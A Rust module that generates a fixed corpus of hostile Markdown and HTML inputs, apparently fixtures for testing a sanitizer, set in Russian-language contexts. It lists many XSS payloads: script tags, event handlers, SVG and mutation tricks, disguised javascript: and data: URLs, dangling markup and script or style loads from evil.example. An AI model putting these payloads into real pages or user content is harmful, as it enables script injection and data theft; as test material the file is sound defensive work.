//! Texts that were written to run something, to fetch something or to break out of where they stand.
//!
//! A family is one way to do harm, a context one place in Markdown where it may stand; every member of a
//! family stands in every context that suits it.

/// One hostile text.
#[derive(Clone, Debug)]
pub struct Hostile {
    pub family: &'static str,
    pub source: String,
}

type Family = (&'static str, fn() -> Vec<String>);
/// What stands before the hostile part, and what after it.
type Context = (&'static str, &'static str);

/// Markup that runs something by itself or when it is touched.
const MARKUP: [Family; 14] = [
    ("script elements", script_elements),
    ("event handlers", event_handlers),
    ("SVG", svg),
    ("MathML", mathml),
    ("mutation by a second parsing", mutations),
    ("broken tags and quotes", broken_tags),
    ("styles", styles),
    ("frames and plugins", frames),
    ("forms", forms),
    ("documents' own elements", document_elements),
    ("clobbered names", clobbered_names),
    ("charset tricks", charset_tricks),
    ("control and direction signs", signs),
    ("dangling markup", dangling),
];

/// Addresses that run something, or lead elsewhere than they seem to.
const ADDRESSES: [Family; 6] = [
    ("javascript: addresses", javascript_addresses),
    ("javascript: addresses in disguise", disguised_addresses),
    ("data:, vbscript: and other addresses", other_schemes),
    ("addresses without a scheme", relative_addresses),
    (
        "addresses that break out of an attribute",
        breaking_addresses,
    ),
    ("addresses of videos", video_addresses),
];

/// Markdown that is hostile by itself.
const MARKDOWN: [Family; 6] = [
    ("nested links and pictures", nested_links),
    ("reference links", references),
    ("autolinks", autolinks),
    ("HTML blocks of every kind", html_blocks),
    ("code fences", fences),
    ("very long parts", long_parts),
];

const MARKUP_CONTEXTS: [Context; 10] = [
    ("", ""),
    ("Слово ", " и ещё слово"),
    ("## ", "\n\nПосле"),
    ("- пункт\n- ", "\n  - внутри"),
    ("> ", "\n>\n> дальше"),
    ("> [!WARNING]\n> ", ""),
    ("| а | б |\n|---|---|\n| ", " | 2 |"),
    ("[", "](https://mtuf.ru/)"),
    ("![", "](https://rutube.ru/video/1/)"),
    ("**жирно *", "* и** `код`"),
];

const ADDRESS_CONTEXTS: [Context; 9] = [
    ("[слово](", ")"),
    ("[слово](<", "> \"заголовок\")"),
    ("[слово][1]\n\n[1]: ", ""),
    ("[слово]\n\n[слово]: <", "> 'заголовок'"),
    ("![описание](", ")"),
    ("[![описание](<", ">)](https://mtuf.ru/)"),
    ("<", ">"),
    ("<a href=\"", "\">слово</a>"),
    ("| [ячейка](", ") |\n|---|\n| 1 |"),
];

/// All of them, in an order that never changes.
pub fn all() -> Vec<Hostile> {
    let markup = spread(&MARKUP, &MARKUP_CONTEXTS);
    let addresses = spread(&ADDRESSES, &ADDRESS_CONTEXTS);
    let markdown = spread(&MARKDOWN, &[("", "")]);
    markup.chain(addresses).chain(markdown).collect()
}

fn spread<'a>(families: &'a [Family], contexts: &'a [Context]) -> impl Iterator<Item = Hostile> {
    families.iter().flat_map(move |(family, members)| {
        members().into_iter().flat_map(move |member| {
            contexts.iter().map(move |(before, after)| Hostile {
                family,
                source: format!("{before}{member}{after}"),
            })
        })
    })
}

fn owned<const COUNT: usize>(texts: [&str; COUNT]) -> Vec<String> {
    texts.map(str::to_owned).into()
}

fn script_elements() -> Vec<String> {
    owned([
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<sCrIpT >alert(1)</ScRiPt\t>",
        "<script/мусор>alert(1)</script>",
        "<script\u{c}src=https://evil.example/a.js></script>",
        "<script src=//evil.example/a.js></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)\n</script\n>",
        "<script>alert(1)",
        "<script type=module>import('https://evil.example/a.mjs')</script>",
        r#"<script type="importmap">{"imports":{"a":"https://evil.example/a.mjs"}}</script>"#,
        "<script src=\"data:text/javascript,alert(1)\"></script>",
        "<script\0>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\<script\\>alert(1)\\</script\\>",
        "<ſcript>alert(1)</ſcript>",
    ])
}

fn event_handlers() -> Vec<String> {
    let element = |(name, rest): (&str, &str)| {
        [
            format!("<{name} {rest}=alert(1)>"),
            format!("<{name}/{rest}='alert(1)'/>"),
        ]
    };
    let touched = [
        ("img src=x", "onerror"),
        ("img src=x", "oNeRrOr\n"),
        ("body", "onload"),
        ("a href=# id=a", "onclick"),
        ("p tabindex=0 autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("video src=x", "onloadstart"),
        ("audio src=x", "onerror"),
        ("div", "onpointerenter"),
        ("b style=animation-name:x", "onanimationend"),
        ("aside data-kind=note", "onmouseover"),
        ("div contenteditable", "onbeforeinput"),
        ("div popover", "onbeforetoggle"),
    ];
    touched.into_iter().flat_map(element).collect()
}

fn svg() -> Vec<String> {
    owned([
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script>alert&#40;1&#41;</script></svg>",
        "<svg><script xlink:href=data:,alert(1) /></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>сюда</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>сюда</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
        "<svg><image href=https://evil.example/a.svg></svg>",
        "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    ])
}

fn mathml() -> Vec<String> {
    owned([
        "<math href=javascript:alert(1)>сюда</math>",
        "<math><mi xlink:href=javascript:alert(1)>сюда</mi></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>сюда</maction></math>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    ])
}

fn mutations() -> Vec<String> {
    let mut texts = owned([
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        "<table><a href=\"x\"><td><img src=x onerror=alert(1)></td></table>",
        "<p title=\"`\"><b id='`><img src=x onerror=alert(1)>'></b></p>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    ]);
    for raw in [
        "noscript",
        "style",
        "textarea",
        "title",
        "xmp",
        "noembed",
        "noframes",
        "plaintext",
        "iframe",
    ] {
        texts.push(format!(
            "<{raw}><p title=\"</{raw}><img src=x onerror=alert(1)>\"></{raw}>"
        ));
    }
    texts
}

fn broken_tags() -> Vec<String> {
    owned([
        "<img src=\"x\" \"onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src='x'onerror=alert(1)>",
        "<img src=x:alert(1)\tonerror=eval(src.slice(2))>",
        "<img src=`x` onerror=`alert(1)`>",
        "<img src=x onerror=alert&#x28;1&#x29;>",
        "<img src=x onerror\u{b}=alert(1)>",
        "<<img src=x onerror=alert(1)>>",
        "< img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)",
        "\"><img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "</p></article></body><img src=x onerror=alert(1)>",
        "<a href=\"https://mtuf.ru/\" href=javascript:alert(1)>сюда</a>",
        "<x onclick=alert(1) tabindex=1>сюда</x>",
        "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>",
    ])
}

fn styles() -> Vec<String> {
    owned([
        "<style>@import 'https://evil.example/a.css';</style>",
        "<style>body{background:url(https://evil.example/a.png)}</style>",
        "<p style=\"width:expression(alert(1))\">сюда</p>",
        "<p style=\"background:url(https://evil.example/a.png)\">сюда</p>",
        "<p style=\"background:\\75rl(javascript:alert(1))\">сюда</p>",
        "<p style=-moz-binding:url(https://evil.example/a.xml#x)>сюда</p>",
        "<a href=https://mtuf.ru style=position:fixed;inset:0>сюда</a>",
        "<link rel=stylesheet href=https://evil.example/a.css>",
        "<link rel=preload as=image href=https://evil.example/a.png>",
        "<font face=\"x;src:url(https://evil.example/f)\">сюда</font>",
    ])
}

fn frames() -> Vec<String> {
    owned([
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe src=https://evil.example/></iframe>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<object data=javascript:alert(1)></object>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<object><param name=src value=https://evil.example/a.swf></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=A archive=https://evil.example/a.jar></applet>",
        "<portal src=https://evil.example/></portal>",
        "<fencedframe src=https://evil.example/></fencedframe>",
    ])
}

fn forms() -> Vec<String> {
    owned([
        "<form action=javascript:alert(1)><input type=submit value=сюда></form>",
        "<form id=f></form><button form=f formaction=javascript:alert(1)>сюда</button>",
        "<input type=image src=https://evil.example/a.png formaction=javascript:alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<isindex type=image src=x onerror=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>сюда</select>",
        "<keygen autofocus onfocus=alert(1)>",
        "<button popovertarget=x>сюда</button><p popover id=x onbeforetoggle=alert(1)>",
    ])
}

fn document_elements() -> Vec<String> {
    owned([
        "<base href=https://evil.example/>",
        "<base target=_top href=javascript:alert(1)//>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
        "<meta name=referrer content=unsafe-url>",
        "<html onclick=alert(1)><head><body onload=alert(1)>",
        "<!DOCTYPE html><html manifest=https://evil.example/m>",
        "<link rel=import href=https://evil.example/a.html>",
        "<link rel=dns-prefetch href=//evil.example>",
    ])
}

fn clobbered_names() -> Vec<String> {
    owned([
        "<a id=cookie name=location href=https://mtuf.ru>сюда</a>",
        "<form name=document><input name=body></form>",
        "<img name=currentScript id=defaultView src=x>",
        "<p id=__proto__ class=admin is=x-y slot=z part=p>сюда</p>",
        "<p data-kind=note itemprop=x xml:base=javascript:alert(1)>сюда</p>",
    ])
}

fn charset_tricks() -> Vec<String> {
    owned([
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u{c0}\u{bc}script\u{c0}\u{be}alert(1)\u{c0}\u{bc}/script\u{c0}\u{be}",
        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
        "\u{2039}img src=x onerror=alert(1)\u{203a}",
        "\u{1b}$B<script>alert(1)</script>\u{1b}(B",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\u{feff}<script>alert(1)</script>",
    ])
}

fn signs() -> Vec<String> {
    owned([
        "<im\0g src=x onerror=alert(1)>",
        "\0<img src=x onerror=alert(1)>\0",
        "&#0;<img src=x &#0;onerror=alert(1)>",
        "<img\u{a0}src=x\u{a0}onerror=alert(1)>",
        "<img\u{2028}src=x\u{2029}onerror=alert(1)>",
        "\u{202e}>tpircs/<)1(trela>tpircs<\u{202c}",
        "<\u{200b}script>alert(1)</\u{200d}script>",
        "\u{2066}<b onclick=alert(1)>сюда</b>\u{2069}",
        "<img src=x\ronerror=alert(1)>",
        "<b\u{7f}onclick=alert(1)\u{80}>сюда</b>\u{fffe}\u{10ffff}",
    ])
}

fn dangling() -> Vec<String> {
    owned([
        "<img src='https://evil.example/?",
        "<a href=\"https://evil.example/?",
        "<textarea>",
        "<form action=https://evil.example/><button>сюда</button><option>",
        "<!--",
        "<style>",
        "<a target='",
        "<table background=\"//evil.example/?",
    ])
}

fn javascript_addresses() -> Vec<String> {
    owned([
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript://mtuf.ru/%0Aalert(1)",
        "javascript:/*https://mtuf.ru/*/alert(1)",
        "javascript:alert`1`",
        "javascript:void(alert(1))//?a=https:",
        "javascript://https://rutube.ru/%0d%0aalert(1)",
        "livescript:alert(1)",
        "mocha:alert(1)",
    ])
}

fn disguised_addresses() -> Vec<String> {
    owned([
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "java&#9;script:alert(1)",
        "java&#x0A;script:alert(1)",
        "java&#x0D;script:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#0000106&#0000097vascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "javascript&colon;alert&lpar;1&rpar;",
        "javascript%3Aalert(1)",
        "javascript%253Aalert(1)",
        "\u{1}javascript:alert(1)",
        "&#1;javascript:alert(1)",
        "&#xA0;javascript:alert(1)",
        "\u{feff}javascript:alert(1)",
        "\u{202e}javascript:alert(1)",
        "java\0script:alert(1)",
        "java&#0;script:alert(1)",
        "java\\script:alert(1)",
        "\\javascript:alert(1)",
        "javascript\\:alert(1)",
        "jav\u{430}script:alert(1)",
        "\u{ff4a}avascript:alert(1)",
        "javascript\u{ff1a}alert(1)",
        "\\u006aavascript:alert(1)",
        "view-source:javascript:alert(1)",
        "feed:javascript:alert(1)",
        "jar:javascript:alert(1)!/",
        "https:javascript:alert(1)",
    ])
}

fn other_schemes() -> Vec<String> {
    owned([
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,%3Csvg%20onload=alert(1)%3E",
        "DATA:text/html;charset=utf-7,+ADw-script+AD4-",
        "da&Tab;ta:text/html,alert(1)",
        "vbscript:msgbox(1)",
        "VbScRiPt:msgbox(1)",
        "vb&#10;script:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://mtuf.ru/0a1b",
        "filesystem:https://mtuf.ru/temporary/a.html",
        "about:blank#<script>",
        "intent://evil.example/#Intent;scheme=https;end",
        "ws://evil.example/",
        "http://evil.example/",
        "media:00000000-0000-4000-8000-000000000000",
        "media:../../a?<img>",
    ])
}

fn relative_addresses() -> Vec<String> {
    owned([
        "//evil.example/a",
        "\\\\evil.example/a",
        "/\\evil.example/a",
        "https:evil.example",
        "https:/evil.example",
        "https:\\\\evil.example",
        "///evil.example",
        "?javascript:alert(1)",
        "#javascript:alert(1)",
        "./javascript:alert(1)",
        "&sol;&sol;evil.example/a",
    ])
}

fn breaking_addresses() -> Vec<String> {
    owned([
        "https://mtuf.ru/\"onclick=\"alert(1)",
        "https://mtuf.ru/&quot;onclick=&quot;alert(1)",
        "https://mtuf.ru/'onmouseover='alert(1)",
        "https://mtuf.ru/&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
        "https://mtuf.ru/`onclick=alert(1)`",
        "https://mtuf.ru/?a=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "https://mtuf.ru/\u{202e}gnp.exe",
        "https://user:javascript@evil.example:443/",
        "https://[::1]/\"onclick=alert(1)",
        "https://evil.example\u{3002}ru/",
        "mailto:a@example.ru?subject=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "mailto:&quot;&gt;&lt;img/src=x/onerror=alert(1)&gt;",
        "mailto:javascript:alert(1)",
        "tel:+7(495)&quot;onclick=&quot;alert(1)",
        "tel:javascript:alert(1)",
        "TEL:*%2306%23",
    ])
}

fn video_addresses() -> Vec<String> {
    owned([
        "https://rutube.ru/\"onclick=\"alert(1)",
        "ht&Tab;tps://rutube.ru/video/1/",
        "&#1;https://rutube.ru/video/1/",
        "https:rutube.ru/video/1/",
        "https:\\\\rutube.ru\\video",
        "HTTPS://RUTUBE.RU/\u{202e}1",
        "https://rutube.ru&NewLine;.evil.example/",
        "https://rutube.ru@evil.example/",
        "https://evil.example/rutube.ru",
        "https://rutube.ru/&lt;/a&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
        "http://rutube.ru/video/1/",
        "javascript://rutube.ru/%0aalert(1)",
    ])
}

fn nested_links() -> Vec<String> {
    owned([
        "[![![x](javascript:alert(1))](https://rutube.ru/1)](javascript:alert(1))",
        "[a [b](javascript:alert(1)) c](https://mtuf.ru/)",
        "![a [b](javascript:alert(1)) <img src=x onerror=alert(1)>](https://rutube.ru/1)",
        "[**a `b](javascript:alert(1))` c**](javascript:alert(2))",
        "[a](javascript:alert(1) 'onclick=alert(1)')",
        "[a](<javascript:alert(1)> \"\"onclick=alert(1)\"\")",
        "[a](https://mtuf.ru \"'><script>alert(1)</script>\")",
        "[a](javascript:alert\\(1\\))",
        "[a]( \n javascript:alert(1)\n)",
        "[a](<java\nscript:alert(1)>)",
        "![![a](https://rutube.ru/1)](https://rutube.ru/2)",
        "[<img src=x onerror=alert(1)>](<javascript:alert(1)>)",
        "[a]([b](javascript:alert(1)))",
        "~~[a](javascript:alert(1)~~)",
        "![\\](x onerror=alert(1) )](media:x\" onerror=\"alert(1))",
    ])
}

fn references() -> Vec<String> {
    owned([
        "[a][javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)",
        "[a]\n\n[A]: javascript:alert(1) 'x'\n[a]: https://mtuf.ru/",
        "[a][]\n\n[a]:\n  javascript:alert(1)\n  \"><script>alert(1)</script>\"",
        "![a][b]\n\n[b]: <data:text/html,<script>alert(1)</script>>",
        "> [a][c]\n\n- [c]: java&#115;cript:alert(1)",
        "[<script>alert(1)</script>]\n\n[<script>alert(1)</script>]: javascript:alert(1)",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "[ẞ]\n\n[ss]: javascript:alert(1)",
    ])
}

fn autolinks() -> Vec<String> {
    owned([
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<javascript:alert(1)//@example.ru>",
        "<data:text/html,alert(1)>",
        "<vbscript:msgbox(1)>",
        "<https://mtuf.ru/\"onclick=alert(1)>",
        "<https://mtuf.ru/'onclick='alert(1)>",
        "<a@example.ru\"onclick=alert(1)>",
        "<mailto:a@example.ru?subject=\"><script>>",
        "<made-up-scheme:alert(1)>",
        "javascript:alert(1) www.evil.example https://evil.example/",
    ])
}

/// The seven kinds of CommonMark: what begins each, and what ends it or does not.
fn html_blocks() -> Vec<String> {
    owned([
        "<script>\nalert(1)\n\nalert(2)\n</script>\n*после*",
        "<pre onclick=alert(1)>\n\n<img src=x onerror=alert(1)>\n</pre>",
        "<style>\n@import '//evil.example/';\n\n</style>",
        "<textarea autofocus onfocus=alert(1)>\n\n</textarea>",
        "<!-- \n\n--><img src=x onerror=alert(1)>",
        "<!---->\n<img src=x onerror=alert(1)>",
        "<?php echo 1 ?><img src=x onerror=alert(1)>",
        "<!ELEMENT x><img src=x onerror=alert(1)>",
        "<![CDATA[\n\n]]><img src=x onerror=alert(1)>",
        "<div onclick=alert(1)>\n\n*внутри* <b onclick=alert(1)>\n\n</div>",
        "</table><img src=x onerror=alert(1)>",
        "<iframe src=javascript:alert(1)>\n\nпосле",
        "<x-y onclick=alert(1)>\n\nпосле",
        "<del onclick=alert(1)>*внутри*</del>",
        "   <script>alert(1)</script>",
        "- <div onclick=alert(1)>\n\n  - <script>\nalert(1)",
        "> <script>\n> alert(1)\nalert(2)",
    ])
}

fn fences() -> Vec<String> {
    owned([
        "```\"><script>alert(1)</script>\nкод\n```",
        "```html onload=alert(1)\n<script>alert(1)</script>\n```",
        "~~~ \" onmouseover=\"alert(1)\n</code></pre><img src=x onerror=alert(1)>\n~~~",
        "```&quot;&gt;&lt;script&gt;\nкод",
        "    <script>alert(1)</script>",
        "`<script>alert(1)</script>`",
        "`` `<img src=x onerror=alert(1)>` ``",
        "> ```\n<script>alert(1)</script>",
        "- ```js\n  </code><script>alert(1)</script>\n  ```",
        "> [!NOTE\" onclick=\"alert(1)]\n> текст",
        "> [!IMPORTANT]<script>alert(1)</script>\n> текст",
        "| <a href=\"|\" onclick=alert(1)> | `|` <script> |\n|:-:|--|\n| \\| <img src=x onerror=alert(1)> |",
        "# <h1 onclick=alert(1)>\n===\n<b>\n---",
    ])
}

fn long_parts() -> Vec<String> {
    vec![
        format!("<img src=x {}onerror=alert(1)>", "a=b ".repeat(1_000)),
        format!(
            "<img title=\"{}\" onerror=alert(1) src=x>",
            "я".repeat(3_000)
        ),
        format!("[слово](javascript:{}alert(1))", "/**/".repeat(1_000)),
        format!(
            "[слово](https://mtuf.ru/{}\"onclick=alert(1))",
            "a".repeat(4_000)
        ),
        format!("{}<script>alert(1)</script>", "<b>".repeat(1_000)),
        format!(
            "{}x{}",
            "[".repeat(500),
            "](javascript:alert(1))".repeat(50)
        ),
        format!("{}<img src=x onerror=alert(1)>", "> ".repeat(300)),
        format!("{}<img src=x onerror=alert(1)>", "- ".repeat(300)),
        format!("{}alert(1)", "&#x6A".repeat(1_000)),
    ]
}
